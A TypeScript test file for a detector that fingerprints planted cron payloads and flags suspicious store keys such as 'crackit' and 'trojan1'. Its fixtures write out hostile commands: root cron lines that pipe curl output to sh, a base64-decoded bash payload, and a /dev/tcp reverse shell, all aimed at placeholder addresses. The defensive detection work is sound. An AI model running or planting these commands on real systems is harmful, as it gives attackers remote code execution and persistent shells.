import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { isDistinctiveKey, isDistinctiveValue, isSharedHost } from './distinctive.ts';
import { shapeFingerprint, shapeOf, valueFingerprint } from './fingerprint.ts';

const drop = (place: string): string => `\n\n*/2 * * * * root curl -fsSL ${place} | sh\n\n`;

describe('fingerprints', () => {
  test('of a value do not see its padding', () => {
    expect(valueFingerprint('\n\n\t x y \0\n')).toBe(valueFingerprint('x y'));
    expect(valueFingerprint('x y')).not.toBe(valueFingerprint('x  y'));
  });

  test.for<[string, string, string]>([
    ['addresses', drop('http://203.0.113.9/init.sh'), drop('http://198.51.100.7:8080/b/c.sh')],
    ['hosts', drop('https://a.example.invalid/x'), drop('http://b.example.invalid/')],
    ['minutes', drop('http://a.example.invalid/x'), drop('http://a.example.invalid/x').replace('/2', '/15')],
    [
      'encoded blobs',
      `*/1 * * * * root echo ${'QUJD'.repeat(12)} | base64 -d | bash`,
      `*/1 * * * * root echo ${'WFla'.repeat(20)}= | base64 -d | bash`,
    ],
    [
      'bare addresses',
      'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      'bash -i >& /dev/tcp/198.51.100.7/9 0>&1',
    ],
  ])('of two drops that differ in their %s have the same shape', ([, one, other]) => {
    expect(shapeFingerprint(one)).toBeDefined();
    expect(shapeFingerprint(one)).toBe(shapeFingerprint(other));
    expect(valueFingerprint(one)).not.toBe(valueFingerprint(other));
  });

  test('of two different commands have different shapes', () => {
    const other = drop('http://203.0.113.9/x').replace('curl -fsSL', 'wget -q -O-');

    expect(shapeFingerprint(drop('http://203.0.113.9/x'))).not.toBe(shapeFingerprint(other));
  });

  test.for(['12345', 'http://203.0.113.9/x', '{"id":7,"n":12}', 'SGVsbG8gd29ybGQgdGhpcyBpcyBhIGJsb2I=', ''])(
    'of %j have no shape: too little is left',
    (text) => {
      expect(shapeFingerprint(text)).toBeUndefined();
    },
  );

  test('are made of any bytes, and a shape never grows', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => {
        const text = Buffer.from(bytes).toString('latin1');

        expect(valueFingerprint(text)).toMatch(/^[0-9a-f]{64}$/);
        expect(shapeOf(text).replaceAll(/<[a-z]+>/g, '').length).toBeLessThanOrEqual(text.length);
      }),
    );
  });
});

describe('distinctive', () => {
  test.for([
    'bull:backup:wait',
    'backup1',
    'celery',
    '_kombu.binding.celery',
    'resque:queue:x',
    'stat:processed',
    '1',
    'qwe',
    'test',
    'user1',
  ])('the key %s is not', (key) => {
    expect(isDistinctiveKey(key)).toBe(false);
  });

  test.for(['crackit', 'trojan1', 'xemvlk', 'mimigo', 'zz9plural'])('the key %s is', (key) => {
    expect(isDistinctiveKey(key)).toBe(true);
  });

  test('values and hosts that everybody has are not', () => {
    expect(isDistinctiveValue(' true ')).toBe(false);
    expect(isDistinctiveValue('1700000000')).toBe(false);
    expect(isDistinctiveValue(drop('http://203.0.113.9/x'))).toBe(true);
    expect(isSharedHost('raw.githubusercontent.com')).toBe(true);
    expect(isSharedHost('notgithub.com')).toBe(false);
  });
});
